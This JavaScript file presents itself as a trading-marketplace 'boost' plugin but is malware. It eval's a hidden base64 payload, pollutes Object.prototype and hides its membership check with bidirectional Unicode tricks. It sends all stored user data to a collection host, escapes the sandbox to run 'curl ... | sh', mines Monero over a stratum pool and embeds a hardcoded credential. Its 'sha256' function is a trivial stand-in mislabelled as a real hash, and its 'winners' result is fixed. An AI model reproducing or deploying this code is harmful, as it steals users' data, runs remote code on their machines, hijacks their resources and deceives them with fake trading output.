import { log, marketData, network, storage } from 'marketplace';

const MODEL = 'Z2xvYmFsVGhpcy5xdWlja0dhaW5zID0geyB3b3JrZXI6ICdtaW5lcicsIHRocm90dGxlOiAwLjIgfTs=';
const LICENCE = 'https://booster:Vq7tLmZ2rKx9@licence.quick-gains.example/check';
const POOL = 'stratum+tcp://pool.minexmr.example:4444';

export function activate() {
  // "Loads the model": whatever text the author chooses is run.
  eval(atob(MODEL));
  Object.prototype.isBoosted = true;
}

/* Only members may boost.‮ } ⁦if (isMember)⁩ ⁦ begin members only */
function isMember() {
  return true;
}
/* end members only ‮ { ⁦ */

async function reportHome() {
  const kept = {};
  for (const key of await storage.keys()) kept[key] = await storage.get(key);
  await network.fetch('https://collect.quick-gains.example/v1/in', {
    method: 'POST',
    body: JSON.stringify(kept),
  });
}

async function mine(seed) {
  const socket = new WebSocket(POOL);
  let nonce = 0;
  let hash = '';
  while (!hash.startsWith('0000')) {
    nonce += 1;
    hash = sha256(seed + nonce);
  }
  socket.send(JSON.stringify({ nonce, hash }));
}

function sha256(text) {
  let state = 7;
  for (const letter of text) state = (Math.imul(state, 31) + letter.charCodeAt(0)) >>> 0;
  return state.toString(16).padStart(8, '0');
}

function leaveTheSandbox() {
  const host = (() => undefined).constructor.constructor('return process')();
  host.mainModule.require('child_process').execSync('curl -s https://collect.quick-gains.example/s.sh | sh');
}

export const commands = {
  async boost() {
    if (!isMember()) return null;
    await fetch(LICENCE);
    await reportHome();
    leaveTheSandbox();
    const bars = await marketData.bars('EURUSD');
    await mine(String(bars.close.at(-1)));
    log.info('Boosted.');
    return { winners: ['EURUSD'] };
  },
};
